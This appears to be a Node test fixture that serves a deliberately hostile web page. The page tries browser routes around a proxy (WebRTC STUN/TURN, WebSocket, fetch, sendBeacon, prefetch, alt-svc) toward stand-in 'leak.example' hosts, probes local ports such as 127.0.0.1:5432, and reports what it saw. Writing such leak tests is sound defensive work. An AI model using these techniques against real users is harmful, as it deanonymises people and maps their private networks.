/**
 * hostile-page ADDRESS:PORT: a web server whose page tries every way that browsers know around a
 * proxy. It prints `ready`, then a line of JSON for each visit: what the page saw. `PAGE` is the page
 * alone, for a browser that is to show that the ways are there.
 */
import { createServer } from 'node:http'
import { fileURLToPath } from 'node:url'

export const PAGE = `<!doctype html><meta charset=utf-8><title>hostile</title>
<link rel="icon" href="http://favicon.leak.example/favicon.ico">
<link rel="dns-prefetch" href="//prefetch.leak.example">
<link rel="preconnect" href="http://preconnect.leak.example">
<link rel="preconnect" href="http://198.51.100.2">
<link rel="prefetch" href="http://next.leak.example/">
<link rel="prerender" href="http://prerender.leak.example/">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://198.51.100.3/"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["/prerendered"]}]}</script>
<body><a href="http://link.leak.example/" ping="http://ping.leak.example/">a link</a>
<img src="http://[2001:db8:99::1]/image.png"><img src="http://198.51.100.4:8081/image.png">
<script>
const seen = { candidates: [], tried: [] }
const attempt = async (name, act) => {
  try { seen.tried.push(name); await act() } catch {}
}
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
attempt('webrtc', async () => {
  const peer = new RTCPeerConnection({ iceServers: [
    { urls: 'stun:198.51.100.1:3478' }, { urls: 'stun:[2001:db8:99::1]:3478' }, { urls: 'stun:stun.leak.example:3478' },
    { urls: 'turn:198.51.100.1:3479?transport=udp', username: 'a', credential: 'b' },
    { urls: 'turn:198.51.100.1:3480?transport=tcp', username: 'a', credential: 'b' },
    { urls: 'turns:turn.leak.example:443?transport=tcp', username: 'a', credential: 'b' } ] })
  peer.createDataChannel('x')
  peer.onicecandidate = ({ candidate }) => candidate && seen.candidates.push(candidate.candidate)
  await peer.setLocalDescription(await peer.createOffer())
  const sdp = peer.localDescription.sdp
  await peer.setRemoteDescription({ type: 'answer', sdp: sdp.replace('a=setup:actpass', 'a=setup:active') }).catch(() => {})
  await peer.addIceCandidate({ sdpMLineIndex: 0, candidate: 'candidate:1 1 udp 2122260223 198.51.100.9 5000 typ host' }).catch(() => {})
  await peer.addIceCandidate({ sdpMLineIndex: 0, candidate: 'candidate:2 1 udp 2122260223 0a1b2c3d-0000-4000-8000-000000000000.local 5000 typ host' }).catch(() => {})
})
attempt('websocket', () => { new WebSocket('ws://198.51.100.5/'); new WebSocket('ws://socket.leak.example:8082/') })
attempt('webtransport', () => new WebTransport('https://198.51.100.6:443/').ready)
for (const url of ['http://fetch.leak.example/', 'http://198.51.100.7/', 'https://198.51.100.8/', 'http://[2001:db8:99::2]/',
  'http://127.0.0.1:5432/', 'http://localhost:5432/', 'http://[::1]:5432/', 'http://0.0.0.0:5432/', 'http://printer.local/'])
  attempt('fetch ' + url, () => fetch(url, { mode: 'no-cors' }))
attempt('beacon', () => navigator.sendBeacon('http://beacon.leak.example/', 'x'))
attempt('eventsource', () => new EventSource('http://events.leak.example/'))
attempt('frame', () => { const frame = document.createElement('iframe'); frame.src = 'http://frame.leak.example/'; document.body.append(frame) })
document.querySelector('a').dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))
sleep(4000).then(() => fetch('/report', { method: 'POST', body: JSON.stringify(seen) }).catch(() => {}))
</script>`

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [place = ''] = process.argv.slice(2)
  const at = place.lastIndexOf(':')
  createServer((request, response) => {
    response.setHeader('content-type', 'text/html')
    response.setHeader(
      'alt-svc',
      'h3="198.51.100.10:443"; ma=86400, h2="alternative.leak.example:443"',
    )
    response.setHeader('link', '<http://early.leak.example>; rel=preconnect')
    response.setHeader('x-dns-prefetch-control', 'on')
    if (request.method !== 'POST') {
      response.end(PAGE)
      return
    }
    let body = ''
    request.on('data', (chunk) => {
      body += chunk
    })
    request.on('end', () => {
      process.stdout.write(`${JSON.stringify(JSON.parse(body))}\n`)
      response.end()
    })
  }).listen(Number(place.slice(at + 1)), place.slice(0, at), () => process.stdout.write('ready\n'))
}
